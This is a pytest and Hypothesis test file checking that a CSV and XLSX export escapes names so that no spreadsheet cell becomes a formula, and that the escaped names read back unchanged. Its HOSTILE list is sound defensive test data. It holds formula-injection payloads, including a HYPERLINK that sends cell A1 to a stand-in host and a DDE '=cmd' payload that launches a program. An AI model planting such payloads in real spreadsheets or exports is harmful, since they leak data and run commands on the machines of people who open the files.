"""Names can be anything: no cell of a table is taken for a formula, and every name reads back."""

import csv
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.lead.exports.csv import BYTE_ORDER_MARK, release_as_csv
from bot.lead.exports.neutral import neutral, plain
from bot.lead.exports.xlsx import release_as_xlsx
from tests.lead.exports.generated import a_generated_release

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212"
BLANK = ' "\ufeff\u00a0\u2800\u061c\u180e\ufe0f\u115f\x85\x1c\u202e\u2069\u3164'
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Roads")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    ' "=1',
    "\ufeff=1",
    "\u00a0=1",
    "Roads;=1+1",
    'Roads;"=1',
    "Roads\n=1",
    *(f"{blank}=1" for blank in "\u2800\u061c\u180e\ufe0f\u115f\x85\u202e\u2069\u3164"),
    "'=1",
    "''Roads",
    "=cmd|' /C calc'!A0",
)
HARMLESS = ("Roads - North", "A+E", "o'clock", "24/7", "C=D", "Müller; Söhne", "_x0041_", "")

pieces = st.sampled_from([*STARTS, ";", "'", '"', " ", "a", "\uff1b", "\ufeff", ","])
texts = st.lists(pieces, max_size=12).map("".join) | st.text(
    st.characters(codec="utf-8"), max_size=30
)


@given(texts)
def test_every_text_reads_back(text: str) -> None:
    assert plain(neutral(text)) == text


@given(texts)
def test_no_cell_starts_a_formula_whichever_sign_stands_between_cells(text: str) -> None:
    file = io.StringIO(newline="")
    csv.writer(file).writerow(["before", neutral(text), "after"])
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter):
            for cell in row:
                assert not starts_formula(cell), (delimiter, cell)


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet could calculate this cell."""
    return cell.lstrip(BLANK).startswith(tuple(STARTS.replace("\r", "").replace("\n", "")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_be_a_formula_is_made_plain(text: str) -> None:
    if not text.startswith("''"):
        assert neutral(text) != text
    assert not starts_formula(neutral(text))


@pytest.mark.parametrize("text", HARMLESS)
def test_other_names_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text


def test_hostile_names_are_in_the_table_as_text_and_read_back() -> None:
    release = a_generated_release(5, names=HOSTILE, departments=4, units=4)
    content = release_as_csv(release)
    text = content.decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    rows = list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))
    groups = [row for row in rows if row["kind"] == "answered"]
    assert [plain(row["group"]) for row in groups] == [group.name for group in release.groups]
    for row in rows:
        assert not any(starts_formula(cell) for cell in row.values())


def test_hostile_names_are_texts_in_the_workbook_and_unchanged() -> None:
    release = a_generated_release(5, names=(*HOSTILE, *HARMLESS[:-1]), departments=6, units=4)
    book = openpyxl.load_workbook(io.BytesIO(release_as_xlsx(release)))
    names = [row[1] for row in book["Groups"].iter_rows(min_row=2)]
    # A carriage return is written as its number, which this reader leaves as it stands.
    shown = [str(cell.value).replace("_x000D_", "\r") for cell in names]
    assert shown == [group.name for group in release.groups]
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in "sn"
                assert cell.hyperlink is None
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert neutral(cell.value) == cell.value or cell.quotePrefix
